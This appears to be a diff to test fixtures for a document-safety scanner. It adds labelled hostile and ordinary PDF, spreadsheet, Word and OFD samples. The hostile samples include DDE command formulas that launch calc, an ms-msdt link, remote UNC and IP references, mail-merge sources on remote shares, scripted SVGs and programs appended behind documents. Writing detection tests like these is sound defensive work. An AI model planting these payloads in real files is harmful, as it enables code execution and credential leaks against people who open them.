@@ -252,6 +252,9 @@ ORDINARY_PDFS: Mapping[str, Callable[[], bytes]] = {
     "as printed": written_page,
     "packed": lambda: pdf_with(lambda pdf: None, packed=True),
     "bare": lambda: BARE_PDF,
+    "saved again without its jump": lambda: (
+        pdf_file(b"9 0 obj<</Type/Catalog/OpenAction[3 0 R/Fit]>>endobj") + b"%%EOF\n"
+    ),
     "words of scripts": lambda: scan(b"(TypeScript/JavaScript) /Launch /JS "),
     "bare with a name among its pixels": lambda: bare_with(b"\x00\x01/JS\xff\x10"),
     "bare with words of scripts": lambda: bare_with(b"(TypeScript/JavaScript)"),
@@ -601,6 +604,55 @@ def nested_field(before: str, inner: str, after: str) -> bytes:
 
 
 MADE_UP = nested_field("", "QUOTE 68 68 69", "AUTO c calc")
+
+
+def sheet(**parts: bytes) -> bytes:
+    return office_file("xlsx", {f"xl/{name}.xml": content for name, content in parts.items()})
+
+
+def pivot(refresh: str, source: str) -> bytes:
+    said = f'<pivotCacheDefinition refreshOnLoad="{refresh}"><cacheSource {source}'
+    return f"{said}</cacheSource></pivotCacheDefinition>".encode()
+
+
+def merging(source: str) -> bytes:
+    """A document that is merged with names from there."""
+    return word(
+        **{
+            "word/settings.xml": f"<w:settings><w:mailMerge><w:connectString w:val='{source}'/>"
+            "</w:mailMerge></w:settings>".encode()
+        }
+    )
+
+
+FORMULAS = (
+    f'_xlfn.IMAGE("{WEB}"&amp;A1)',
+    "image (A1)",
+    'RTD("x.y",,"a")',
+    "_xll.Run(1)",
+    'SQL.REQUEST("DSN=a")',
+    "'file://203.0.113.7/[a.xlsx]S'!A1",
+    "' \\\\203.0.113.7\\s\\[a.xlsx]S'!A1",
+    "'http://203.0.113.7/[a.xlsx]S'!A1",
+    "\\\\203.0.113.7\\s\\[a.xlsx]S!A1",
+    'HYPERLINK("\\\\203.0.113.7\\s")',
+    'HYPERLINK("\\"&amp;"\\203.0.113.7\\s","见附件")',
+    'HYPERLINK("ms-msdt:/id")',
+    "cmd|/c!A0",
+    "cmd|'/C calc'!A0",
+    "'cmd'|'/C calc'!A0",
+)
+PLAIN_FORMULAS = (
+    "SUM(A1:A9)*2",
+    '"甲|乙!"&amp;"见 //x"',
+    "'甲|乙'!A1",
+    "'C:\\[2025.xlsx]S'!A1",
+    "[1]Sheet1!A1",
+    f'HYPERLINK("{WEB}","网页")',
+    'HYPERLINK("#Sheet2!A1","见表 2")',
+    "RECALL(1)+IMAGES(2)",
+    "Table1[[#This Row],[a|b]]",
+)
 HOSTILE_OFFICE: Mapping[str, tuple[str, Callable[[], bytes]]] = {
     "photograph with its place": (
         "a.docx",
@@ -801,6 +853,98 @@ HOSTILE_OFFICE: Mapping[str, tuple[str, Callable[[], bytes]]] = {
             "xlsx", {"xl/worksheets/sheet1.xml": b"<c><f>cmd|' /C calc'!A0</f></c>"}
         ),
     ),
+    **{
+        f"formula {said}": (
+            "a.xlsx",
+            lambda said=said: sheet(**{"worksheets/sheet1": f"<c><f>{said}</f></c>".encode()}),
+        )
+        for said in FORMULAS
+    },
+    "formula of a name": (
+        "a.xlsx",
+        lambda: sheet(workbook2=b"<a><definedName>RTD(1)</definedName></a>"),
+    ),
+    "pivot table from elsewhere": (
+        "a.xlsx",
+        lambda: sheet(pivot=pivot("1", 'type="external" connectionId="1">')),
+    ),
+    "pivot table from another workbook": (
+        "a.xlsx",
+        lambda: sheet(pivot=pivot(" true ", 'type="worksheet"><worksheetSource r:id="r1"/>')),
+    ),
+    "query when opened": ("a.xlsx", lambda: sheet(q=b"<queryTable refreshOnLoad='1'/>")),
+    "data when opened, after a blank": (
+        "a.xlsx",
+        lambda: sheet(c=b"<a><connection refreshOnLoad=' 1'/></a>"),
+    ),
+    "data every minute": ("a.xlsx", lambda: sheet(c=b"<a><connection interval='1'/></a>")),
+    "data in real time": (
+        "a.xlsx",
+        lambda: sheet(v=b"<volTypes><volType type='realTimeData'/></volTypes>"),
+    ),
+    "names from a share": (
+        "a.docx",
+        lambda: merging("Provider=X;Data Source=\\\\203.0.113.7\\s\\a.mdb;Mode=Read"),
+    ),
+    "names from a server": (
+        "a.docx",
+        lambda: merging("Provider=SQLOLEDB;Data Source=203.0.113.7;Initial Catalog=a"),
+    ),
+    "names from the web": ("a.docx", lambda: merging(f"Provider=X;Data Source={WEB}")),
+    "add-in that shows itself": (
+        "a.docx",
+        lambda: word(**{"_rels/.rels": relation("webextensiontaskpanes", "word/t.xml")}),
+    ),
+    "add-in from a share": (
+        "a.docx",
+        lambda: word(
+            **{"word/w.xml": b"<we:a><we:reference store='//x/s' storeType='FileSystem'/></we:a>"}
+        ),
+    ),
+    "EPS picture": ("a.docx", lambda: word(**{"word/media/a.eps": b"%!PS-Adobe-3.0 EPSF"})),
+    "EPS picture under another name": (
+        "a.docx",
+        lambda: word(**{"word/media/a.png": b"\n%!PS-Adobe-3.0 EPSF"}),
+    ),
+    "EPS picture of DOS": (
+        "a.xlsx",
+        lambda: office_file("xlsx", {"xl/media/a.emf": b"\xc5\xd0\xd3\xc6" + bytes(30)}),
+    ),
+    "program behind": ("a.docx", lambda: office_file() + b"MZ\x90" + bytes(90)),
+    "web page behind": ("a.xlsx", lambda: office_file("xlsx") + b"<script>x()</script>"),
+    "archive behind": ("a.docx", lambda: office_file() + zipped({"a.js": b"x"})),
+    "document behind a document": ("a.docx", lambda: office_file() + office_file()),
+    "archive as a picture": (
+        "a.docx",
+        lambda: word(**{"word/media/image1.png": zipped({"a.txt": b"x"})}),
+    ),
+    "document with macros as data": (
+        "a.docx",
+        lambda: word(**{"word/a.dat": word(**{"word/vbaProject.bin": b"x"})}),
+    ),
+    "PDF with a script as data": (
+        "a.docx",
+        lambda: word(**{"word/a.dat": pdf_with(opens_with(SCRIPT))}),
+    ),
+    **{
+        f"file {name} inside": (
+            "a.docx",
+            lambda name=name: word(**{f"word/embeddings/{name}": b"x"}),
+        )
+        for name in ("a.xlsb", "a.iqy", "a.slk")
+    },
+    **{
+        f"drawing with {said}": (
+            "a.docx",
+            lambda said=said: word(**{"word/media/a.svg": f"<svg>{said}</svg>".encode()}),
+        )
+        for said in (
+            "<script>x()</script>",
+            "<g onload='x()'/>",
+            f"<image xlink:href='{WEB}'/>",
+            "<use href='//203.0.113.7/a'/>",
+        )
+    },
     "macro sheet": (
         "a.xlsx",
         lambda: office_file("xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"}),
@@ -854,6 +998,31 @@ def online() -> bytes:
 OWN_TEMPLATE = outside("attachedTemplate", "file:///C:\\Users\\li\\Templates\\Normal.dotm")
 ORDINARY_OFFICE: Mapping[str, tuple[str, Callable[[], bytes]]] = {
     "document": ("a.docx", office_file),
+    **{
+        f"formula {said}": (
+            "a.xlsx",
+            lambda said=said: sheet(**{"worksheets/sheet1": f"<c><f>{said}</f></c>".encode()}),
+        )
+        for said in PLAIN_FORMULAS
+    },
+    "pivot table of a sheet": (
+        "a.xlsx",
+        lambda: sheet(
+            pivot=pivot("1", 'type="worksheet"><worksheetSource ref="A1:B9" sheet="S"/>')
+        ),
+    ),
+    "query": ("a.xlsx", lambda: sheet(q=b"<queryTable refreshOnLoad='0'/>")),
+    "names from one's own disk": (
+        "a.docx",
+        lambda: merging("Provider=X;Data Source=C:\\my names\\a.xlsx;Mode=Read"),
+    ),
+    "padding behind": ("a.docx", lambda: office_file() + bytes(60)),
+    "drawing": (
+        "a.docx",
+        lambda: word(
+            **{"word/media/a.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0'/></svg>"}
+        ),
+    ),
     "photograph": ("a.docx", lambda: word(**{"word/media/image1.jpeg": jpeg_file()})),
     "TIFF with its place": ("a.docx", lambda: word(**{"word/media/a.tiff": place()[6:]})),
     "signed with a photograph and its place": (
@@ -951,6 +1120,34 @@ HOSTILE_INVOICES: Mapping[str, tuple[str, Callable[[], bytes]]] = {
     "OFD that opens an address": ("a.ofd", lambda: ofd(**{"Doc_0/Document.xml": acts("DO")})),
     "OFD with a program": ("a.ofd", lambda: ofd(**{"Doc_0/Attachs/a.exe": b"MZ"})),
     "OFD with a document type": ("a.ofd", lambda: ofd(**{"Doc_0/x.xml": DOCTYPE})),
+    **{
+        f"OFD with {what}": ("a.ofd", lambda made=made: ofd(**{"Doc_0/Attachs/a.dat": made()}))
+        for what, made in {
+            "a document with macros": lambda: word(**{"word/vbaProject.bin": OLE}),
+            "a document with a template": lambda: word(**{WORD_RELATIONS: TEMPLATE}),
+            "an archive": lambda: zipped({"a.txt": b"x"}),
+            "a script in a PDF": lambda: pdf_with(opens_with(SCRIPT)),
+            "a locked PDF": lambda: pdf_with(
+                lambda pdf: None, encryption=pikepdf.Encryption(owner="o", user="u")
+            ),
+            "EPS": lambda: b"%!PS-Adobe-3.0 EPSF",
+        }.items()
+    },
+    "OFD with a program behind": ("a.ofd", lambda: ofd() + b"MZ" + bytes(90)),
+    "OFD with a link to a program": (
+        "a.ofd",
+        lambda: ofd(
+            **{
+                "Doc_0/Document.xml": acts("CLICK").replace(
+                    WEB.encode(), b"file:///c:/windows/system32/calc.exe"
+                )
+            }
+        ),
+    ),
+    "OFD with a link to a share": (
+        "a.ofd",
+        lambda: ofd(**{"Doc_0/a.xml": acts("CLICK").replace(WEB.encode(), b" \\\\x\\s")}),
+    ),
     "archive called OFD": ("a.ofd", lambda: zipped({"a.txt": b"x"})),
     "XML with a document type": ("a.xml", lambda: DOCTYPE),
     "XML in UTF-16 with a document type": ("a.xml", lambda: wide(DOCTYPE)),
@@ -976,6 +1173,8 @@ HOSTILE_INVOICES: Mapping[str, tuple[str, Callable[[], bytes]]] = {
 }
 ORDINARY_INVOICES: Mapping[str, tuple[str, Callable[[], bytes]]] = {
     "OFD": ("a.ofd", ofd),
+    "OFD with a plain PDF": ("a.ofd", lambda: ofd(**{"Doc_0/Attachs/a.pdf": written_page()})),
+    "OFD with a plain document": ("a.ofd", lambda: ofd(**{"Doc_0/Attachs/a.dat": word()})),
     "OFD with a photograph and its place": (
         "a.ofd",
         lambda: ofd(**{"Doc_0/Res/a.jpg": jpeg_file(exif=place())}),
